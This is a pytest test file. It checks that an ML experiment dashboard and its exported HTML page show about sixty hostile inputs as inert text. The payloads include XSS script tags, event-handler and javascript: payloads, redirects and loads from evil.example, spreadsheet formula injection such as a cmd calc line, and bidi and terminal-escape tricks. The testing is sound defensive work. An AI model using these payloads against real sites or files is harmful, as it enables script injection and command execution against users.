"""Whatever a record says is shown as text: it runs nothing, asks nobody, breaks no page."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import ntp_dynamics as ntp
from ntp_dynamics.dashboard.export import export
from ntp_dynamics.dashboard.index import scan
from ntp_dynamics.dashboard.table import PAGE
from tests.sealing import seal

RUN = "window.pwned=1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    f"<img src=x onerror={RUN}>",
    "<img src=http://evil.example/x.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe src=javascript:{RUN}>",
    "<iframe src=//evil.example>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    "<a href='http://evil.example'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import url(//evil.example)</style>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example>",
    f"<math><mi xlink:href=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    "<embed src=//evil.example>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<template>{RUN}</template>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--<script>{RUN}//",
    "<b><i><a href=//evil.example>",
    f"'><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"';{RUN};'",
    f'";{RUN};"',
    f"\\u003cscript>{RUN}\\u003c/script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"javascript:{RUN}",
    "data:text/html,<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
ODD = [
    '=HYPERLINK("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1)",
    "\t=1+1",
    "\u202egnp.exe",
    "\u2066\u2069\u200b\u200d\ufeff",
    "\x1b[31mred\x1b]0;title\x07",
    "\x00\x01\x7f",
    "line\nbreak\r\n",
    "[click](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "**bold** `code`",
    "$\\href{http://evil.example}{x}$",
    "__proto__",
    "constructor",
    "toString",
    "\ud800 half",
    "x" * 1_000_000,
    "\U0001f600" * 300,
]
PAYLOADS = [*MARKUP, *ODD][:62]


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory, status_only: Callable[..., Path]) -> Path:
    """A sweep with a payload in every field of every status file, and a sealed record whose
    vocabulary, verdicts, notes and log are payloads."""
    root = tmp_path_factory.mktemp("hostile")
    for i, payload in enumerate(PAYLOADS):
        name = re.sub(r"[/\x00\ud800]", "_", payload)[:60].strip(".") or "_"
        status_only(
            root / "<b>sweep" / f"{i}{name}",
            state=payload[:50],
            reason=payload,
            overrides=[f"key={payload}", f"{payload}={i}", f"seed={i % 2}"],
            final={"attention.direction_gap_kq": i / 10, payload: 1.0},
            labels={"kq.direction": "holds", payload: payload, f"claim{i}{payload}": "tight"},
            p_contradicted={payload: payload},
            study=payload if i % 3 else "next_token",
            listed={"claims": [payload], "ranked": [payload, i], "logs": payload},
        )
    words = list(dict.fromkeys(p[:300].encode("utf-8", "replace").decode() for p in PAYLOADS))
    samples = [{"tokens": [w], "next": words[i - 1]} for i, w in enumerate(words)]
    samples += [{"tokens": [words[i], words[i - 1]], "next": words[i - 1]} for i in range(20)]
    lines = [json.dumps(line) for line in ({"vocab": words}, *samples)]
    (root / "hostile.jsonl").write_text("\n".join(lines))
    job = root / "record"
    ntp.train(
        ["experiment=smoke", "tracking=none", "figures=none", "runs=1", "dataset=file",
         f"dataset.path={root / 'hostile.jsonl'}", "train.feed_forward.steps=5",
         "train.attention.steps=20"],
        job,
    )  # fmt: skip
    verdicts = json.loads((job / "verdicts.json").read_text())
    for claim, payload in zip(verdicts["claims"] * 4, PAYLOADS, strict=False):
        for field in ("sentence", "statement", "source", "version", "summary", "law", "reason"):
            claim[field] = payload[:2000]
        terms = claim["terms"]  # laws with numbers alone are drawn under any name
        terms.update(law=None if terms["curves"] else terms["law"], curves=[])
    (job / "verdicts.json").write_text(json.dumps(verdicts))
    status = json.loads((job / "status.json").read_text())
    status.update(notes=PAYLOADS[:20], reason=PAYLOADS[0], overrides=[f"a={p}" for p in PAYLOADS])
    (job / "status.json").write_text(json.dumps(status))
    text = "\n".join(p[:500].encode("utf-8", "replace").decode() for p in PAYLOADS)
    (job / "log.txt").write_text(text)
    seal(job)
    return root


def harmless(page: Any) -> None:
    assert page.evaluate("window.pwned === undefined")
    ours = "header, main, footer, section, figure, svg, table"
    foreign = "#page script, #page iframe, #page style, #page object, #page embed, #page base"
    assert page.locator(foreign).count() == 0
    assert page.locator(ours).first.is_visible()
    links = page.evaluate("[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
    assert all(link is None or re.match(r"^(/(?!/)|#|data:image|blob:)", link) for link in links)


def test_sixty_payloads_on_every_page_are_text(
    root: Path, dashboard: Callable[[Path], str], watched: Any
) -> None:
    assert len(set(PAYLOADS)) >= 60
    url, index, page = dashboard(root), scan(root), watched.page
    record = next(job for job in index.jobs.values() if job.name == "record")
    folder = next(f for f in index.folders.values() if "sweep" in f.name)
    page.goto(url)
    page.wait_for_selector("table.folders")
    harmless(page)
    page.goto(f"{url}/sweep/{folder.id}?lines=1")
    page.wait_for_selector("[data-panel=parallel]")
    rows = page.locator("table.jobs tbody tr")
    assert rows.count() == PAGE
    shown = page.locator("table.jobs tbody").inner_text()
    harmless(page)
    page.locator(".pager button").last.click()
    page.locator(".pager", has_text="2 of 2").wait_for()
    assert rows.count() == len(PAYLOADS) - PAGE
    shown += page.locator("table.jobs tbody").inner_text()
    for payload in MARKUP:
        assert payload[:20] in shown
    harmless(page)
    page.fill("#filter", f'key="{MARKUP[0]}"')
    page.locator("#matched", has_text=f"1 of {len(PAYLOADS)}").wait_for()
    page.goto(f"{url}/job/{record.id}")
    page.wait_for_selector("[data-panel='attention/norm_kq'] .main-svg")
    page.wait_for_selector("[data-panel=attention-map] svg")
    page.locator(".chip").first.click()
    page.wait_for_selector(".evidence:not([hidden])")
    page.locator("summary", has_text="log").click()
    assert MARKUP[0] in page.locator("details pre").inner_text()
    harmless(page)
    page.goto(f"{url}/view/corpus/{record.id}")
    page.wait_for_selector(".orders svg")
    assert MARKUP[0][:12] in page.locator("#page").inner_text()
    harmless(page)
    page.goto(f"{url}/compare?jobs={record.id},{folder.jobs[0].id}&by={MARKUP[3]}")
    page.wait_for_selector(".lines li")
    harmless(page)


def test_the_exported_page_holds_them_as_text_too(root: Path, tmp_path: Path, watched: Any) -> None:
    export(root, tmp_path / "page.html")
    text = (tmp_path / "page.html").read_text()
    assert f"<script>{RUN}" not in text
    page = watched.page
    page.goto((tmp_path / "page.html").as_uri())
    page.wait_for_selector("table.jobs")
    harmless(page)
    page.locator("table.jobs a", has_text="record").click()
    page.wait_for_selector("[data-panel='attention/norm_kq'] .main-svg")
    harmless(page)
